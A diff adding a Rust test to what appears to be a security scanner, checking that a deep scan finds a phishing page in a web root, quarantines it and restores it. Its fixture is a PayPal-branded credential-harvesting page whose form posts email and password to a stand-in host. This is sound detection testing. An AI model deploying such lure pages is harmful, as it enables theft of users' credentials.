@@ -1083,3 +1083,28 @@ fn an_account_scan_covers_that_account_only() {
     );
     assert_eq!(d.get("/api/v1/status", READ).json()["latest_scan"], latest);
 }
+
+const PHISHING: &str = "<html><title>PayPal</title><body><h1>Verify your account</h1><p>Your PayPal account has been limited.</p><form method=\"post\" action=\"https://collect.example/p.php\"><input name=\"email\"><input type=\"password\" name=\"password\"></form></body></html>\n";
+
+/// `phishing_page`: a deep scan finds a brand-kit page already in a web root (no file
+/// watcher), its fix quarantines it, and it restores from there.
+#[test]
+fn a_phishing_page_in_a_web_root_is_found_by_a_deep_scan_and_quarantined() {
+    let (d, www) = start("remedy-phish", "", &[]);
+    let page = www.join("site/secure/login.html");
+    write_mode(&page, PHISHING.as_bytes(), 0o644);
+    write_mode(&www.join("site/index.html"), b"<html>hello</html>", 0o644);
+    scan(&d, "deep");
+    let found = findings_of(&d, "phishing_page");
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0]["path"], page.display().to_string().as_str());
+    let r = post_id(&d, "/api/v1/fix", found[0]["id"].as_str().unwrap());
+    r.expect(200);
+    let qid = r.json()["fixed"]["quarantine_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(std::fs::symlink_metadata(&page).is_err(), "moved away");
+    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(200);
+    assert_eq!(std::fs::read_to_string(&page).unwrap(), PHISHING);
+}
